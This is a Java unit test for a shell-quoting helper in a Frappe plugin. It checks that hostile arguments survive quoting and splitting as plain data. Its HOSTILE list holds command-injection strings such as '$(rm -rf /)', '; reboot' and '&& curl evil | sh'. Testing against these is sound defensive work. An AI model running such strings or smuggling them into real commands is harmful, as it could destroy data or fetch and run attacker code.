package dev.tenantwright.plugin.frappe.internal;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import java.util.ArrayList;
import java.util.List;
import java.util.Random;
import org.junit.jupiter.api.Test;

class ShellQuotingTest {

  static final List<String> HOSTILE = List.of(
      "it's", "'", "''", "'\\''", "\"", "$(rm -rf /)", "`id`", "${HOME}", "$HOME", "a b", "  leading", "trailing  ",
      "line\nbreak", "cr\rlf", "tab\there", "; reboot", "&& curl evil | sh", "|| true", "&", "*", "?", "[a-z]*",
      "~root", "#comment", "!", "\\", "\\'", "a\\nb", "{a,b}", "<in", ">out", "2>&1", "--site", "-", "", " ",
      "ünïcødé ✓", "\u0007bell", "$'\\x41'", "'$(x)'\"`y`\"");

  @Test
  void quotesEveryArgumentInSingleQuotes() {
    assertThat(ShellQuoting.quote("bench")).isEqualTo("'bench'");
    assertThat(ShellQuoting.quote("")).isEqualTo("''");
    assertThat(ShellQuoting.quote("it's")).isEqualTo("'it'\\''s'");
    assertThat(ShellQuoting.join(List.of("bench", "--site", "a.example"))).isEqualTo("'bench' '--site' 'a.example'");
  }

  @Test
  void aShellSplitsTheJoinedStringBackIntoExactlyTheHostileArguments() {
    for (String hostile : HOSTILE) {
      List<String> argv = List.of("bench", "--site", hostile, "set-config", hostile, hostile + hostile);
      assertThat(PosixWords.split(ShellQuoting.join(argv))).as("round trip of %s", hostile).isEqualTo(argv);
    }
    assertThat(PosixWords.split(ShellQuoting.join(HOSTILE))).isEqualTo(HOSTILE);
  }

  @Test
  void randomArgumentsOfAnyCharactersSurviveTheRoundTrip() {
    Random random = new Random(42);
    String alphabet = "ab '\"\\$`;|&()<>*?[]{}~#!\n\r\t=%-_./:@,ü";
    for (int run = 0; run < 2000; run++) {
      List<String> argv = new ArrayList<>();
      int n = 1 + random.nextInt(6);
      for (int i = 0; i < n; i++) {
        StringBuilder sb = new StringBuilder();
        int len = random.nextInt(12);
        for (int j = 0; j < len; j++) {
          sb.append(alphabet.charAt(random.nextInt(alphabet.length())));
        }
        argv.add(sb.toString());
      }
      assertThat(PosixWords.split(ShellQuoting.join(argv))).as("run %d", run).isEqualTo(argv);
    }
  }

  @Test
  void theTestParserRejectsWhatARealShellWouldInterpret() {
    assertThatThrownBy(() -> PosixWords.split("bench $(id)")).isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> PosixWords.split("a; b")).isInstanceOf(IllegalArgumentException.class);
    assertThatThrownBy(() -> PosixWords.split("'open")).isInstanceOf(IllegalArgumentException.class);
  }

  @Test
  void refusesANulCharacter() {
    assertThatThrownBy(() -> ShellQuoting.quote("a\0b")).isInstanceOf(IllegalArgumentException.class);
  }
}
